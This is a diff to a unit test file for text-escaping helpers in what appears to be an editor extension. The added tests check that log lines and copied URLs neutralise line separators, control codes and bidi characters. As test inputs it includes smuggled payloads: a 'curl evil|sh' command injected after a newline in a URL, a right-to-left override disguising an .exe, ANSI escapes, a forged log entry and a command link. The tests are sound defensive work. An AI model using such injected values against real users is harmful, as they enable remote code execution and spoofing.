@@ -1,5 +1,5 @@
 import * as assert from 'node:assert/strict';
-import { escapeForLog, escapeForMessage, escapeIcons, escapeMarkdown, singleLine } from '../../../src/text/text';
+import { clipboardUrls, escapeForLog, escapeForMessage, escapeIcons, escapeMarkdown, singleLine } from '../../../src/text/text';
 
 /** The 403 message of the hardening issue: a link that would run a command on click. */
 const COMMAND_LINK = '[Renew](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)';
@@ -44,5 +44,25 @@ describe('text escaping per sink (src/text/text)', () => {
     assert.equal(line, 'done\\n2026-11-22 10:00:00.000 [info] API key saved\\r\\u202eevil $(alert)');
     assert.equal(escapeForLog('bell\u0007 esc\u001b[31m del\u007f'), 'bell\\x07 esc\\x1b[31m del\\x7f');
     assert.equal(escapeForLog(COMMAND_LINK), COMMAND_LINK, 'printable text is kept as it is');
+  });
+
+  it('escapes U+2028 and U+2029 as the other line breaks are, in the log and in labels', () => {
+    // The output channel and editors break lines at LINE and PARAGRAPH SEPARATOR too.
+    const forged = 'done\u20282026-11-22 10:00:00.000 [info] API key saved\u2029x';
+    const line = escapeForLog(forged);
+    assert.equal(line, 'done\\u20282026-11-22 10:00:00.000 [info] API key saved\\u2029x');
+    assert.equal(line.split(/[\n\r\u2028\u2029\u0085]/).length, 1);
+    assert.equal(singleLine('a\u2028b\u2029c'), 'a\uFFFDb\uFFFDc');
+  });
+
+  it('Copy URL: one line of printable text; control, line-break and bidi characters percent-encoded', () => {
+    assert.equal(clipboardUrls(['https://x.example/a?b=1']), 'https://x.example/a?b=1');
+    assert.equal(clipboardUrls(['https://x.example/a\ncurl evil|sh\n']), 'https://x.example/a%0Acurl evil|sh%0A');
+    assert.equal(clipboardUrls(['https://x.example/\u001b[2Jx\u202egpj.exe\u2028']), 'https://x.example/%1B[2Jx%E2%80%AEgpj.exe%E2%80%A8');
+    assert.equal(clipboardUrls(['https://bücher.example/straße']), 'https://bücher.example/straße', 'printable Unicode stays');
+    const several = clipboardUrls(['https://a.example/', 'https://b.example/\r\nx']);
+    assert.equal(several, 'https://a.example/ https://b.example/%0D%0Ax');
+    // eslint-disable-next-line no-control-regex -- finding control characters is the point
+    assert.doesNotMatch(several, /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
   });
 });
